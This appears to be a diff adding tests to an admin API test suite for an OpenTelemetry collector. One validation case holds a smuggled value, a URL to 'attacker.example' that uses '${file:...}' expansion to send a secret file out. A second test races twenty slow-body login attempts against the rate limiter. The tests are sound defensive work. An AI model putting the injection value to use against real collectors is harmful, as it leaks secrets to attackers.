@@ -1,6 +1,7 @@
 // The Admin Panel's JSON API against a real otelcol-audit under its supervision: CRUD for every
 // destination type, errors naming the field, secrets never returned, auth and CSRF on every
 // route, 409 on a stale revision, and each change in the audit trail with the administrator as actor.
+import { connect } from 'node:net';
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { readdirSync, readFileSync, statSync } from 'node:fs';
@@ -124,6 +125,10 @@ describe('admin API', () => {
       [{ id: 'x', name: 'X', type: 'kafka', brokers: ['k:9092'], url: 'https://a' }, 'destination.url', /is not a setting of a kafka destination/],
       [{ id: 'x', name: 'X', type: 'pigeon' }, 'destination.type', /must be one of splunk_hec/],
       [{ id: 'x', name: 'X', type: 'otlp_http', endpoint: 'https://a/v1/logs', headers: { 'bad header': 'v' } }, 'destination.headers.bad header', /not a valid header name/],
+      // The Collector expands ${file:...} and ${env:...}: a setting must not make it send its secrets elsewhere.
+      [{ id: 'x', name: 'X', type: 'splunk_hec', url: 'https://attacker.example/?a=${file:/etc/otel/secret}', token: 't' }, 'destination.url', /must not contain \$/],
+      [{ id: 'x', name: 'X', type: 'splunk_hec', url: 'https://splunk.example.com:8088', token: '${env:SPLUNK_HEC_TOKEN}' }, 'destination.token', /must not contain \$\{/],
+      [{ id: 'x', name: 'X', type: 'otlp_http', endpoint: 'https://a/v1/logs', headers: { Authorization: 'Bearer ${env:X}' } }, 'destination.headers.Authorization', /must not contain \$\{/],
     ];
     for (const [body, field, message] of cases) {
       const response = await client.change('POST', '/api/destinations', body);
@@ -186,5 +191,34 @@ describe('admin API', () => {
     const limited = await request(admin.url, 'POST', '/api/login', { token: admin.token });
     assert.equal(limited.status, 429);
     assert.ok(Number(limited.headers.get('retry-after')) > 0);
+  });
+});
+
+describe('admin login limit under parallel attempts', () => {
+  test('attempts whose bodies arrive slowly cannot all pass the limit check: at most five are tried, the rest get 429', async () => {
+    const admin = await startTestAdmin();
+    const { hostname, port } = new URL(admin.url);
+    const body = JSON.stringify({ user: 'nobody', password: 'wrong' });
+    try {
+      // Every request's headers first; the bodies only once all of them are waiting for theirs.
+      const sockets = Array.from({ length: 20 }, () => connect(Number(port), hostname));
+      const answers = sockets.map(
+        (socket) =>
+          new Promise<number>((resolve) => {
+            let text = '';
+            socket.on('data', (chunk: Buffer) => (text += chunk.toString()));
+            socket.on('close', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0)));
+          }),
+      );
+      for (const socket of sockets) socket.write(`POST /api/login HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      for (const socket of sockets) socket.end(body);
+      const statuses = await Promise.all(answers);
+      const tried = statuses.filter((status) => status === 401).length;
+      assert.ok(tried <= 5, `${tried} attempts were checked`);
+      assert.equal(statuses.filter((status) => status === 429).length, 20 - tried);
+    } finally {
+      await admin.close();
+    }
   });
 });
